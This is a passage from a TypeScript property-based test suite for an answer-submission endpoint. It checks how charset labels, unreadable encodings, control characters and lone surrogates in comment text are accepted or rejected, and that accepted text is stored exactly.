      fc.tuple(fc.constant(null), anyText),
    );
    await fc.assert(
      fc.asyncProperty(body, async ([charset, text]) => {
        const json = JSON.stringify({ answers: [{ question, value: 'no', comment: text }] });
        const label = charset?.replaceAll('"', '').toLowerCase();
        const encoding =
          label === undefined || label.startsWith('utf-8') || label === 'utf8'
            ? 'utf8'
            : label.startsWith('utf-16')
              ? 'utf16le'
              : 'latin1';
        const res = await send(
          Buffer.from(json, encoding),
          charset === null ? 'application/json' : `application/json; charset=${charset}`,
        );
        const where = `${charset} ${JSON.stringify(text)} -> ${describeReply(res)}`;
        if (controlCharacterIn(text)) {
          expect(res.statusCode, where).toBe(400);
          expect(res.body, where).toContain('body.answers[0].comment');
          return;
        }
        expect(res.statusCode, where).toBe(200);
        const { answer, last } = await stored();
        expect(answer?.comment, where).toBe(text);
        expect(last?.comment, where).toBe(text);
      }),
      options(Math.max(1, Math.round(80 * SCALE))) as never,
    );
  }, 60_000);

  it('a charset it cannot read is 415 and stores nothing', async () => {
    await fc.assert(
      fc.asyncProperty(fc.constantFrom('klingon', 'utf-7', 'x-unknown', 'ébcdic', '""'), async (charset) => {
        const before = fingerprint(ctx);
        const res = await send(
          JSON.stringify({ answers: [{ question, value: 'yes' }] }),
          `application/json; charset=${charset}`,
        );
        const where = `${charset} -> ${describeReply(res)}`;
        expect(contractViolation(res), where).toBeNull();
        expect(res.statusCode, where).toBe(415);
        expect(fingerprint(ctx), where).toBe(before);
      }),
      options(12) as never,
    );
  }, 60_000);

  it('a lone surrogate or a control character is refused; any other text is stored exactly, the same in answers and history', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: utf16Unit, minLength: 1, maxLength: 30 }), async (text) => {
        const before = fingerprint(ctx);
        // JSON.stringify writes a lone surrogate as its \\uXXXX escape, as a client would.
        const res = await send(JSON.stringify({ answers: [{ question, value: 'partial', comment: text }] }));
        const where = `${JSON.stringify(text)} -> ${describeReply(res)}`;
        expect(contractViolation(res), where).toBeNull();
        if (hasLoneSurrogate(text) || controlCharacterIn(text)) {
          expect(res.statusCode, where).toBe(400);
          expect(res.body, where).toContain('body.answers[0].comment');
          expect(fingerprint(ctx), where).toBe(before);
          return;
        }
        expect(res.statusCode, where).toBe(200);
        const { answer, last } = await stored();
        expect(answer?.comment, where).toBe(text);
        expect(last?.comment, where).toBe(text);
      }),
      options(Math.max(1, Math.round(120 * SCALE))) as never,
    );
  }, 60_000);
});
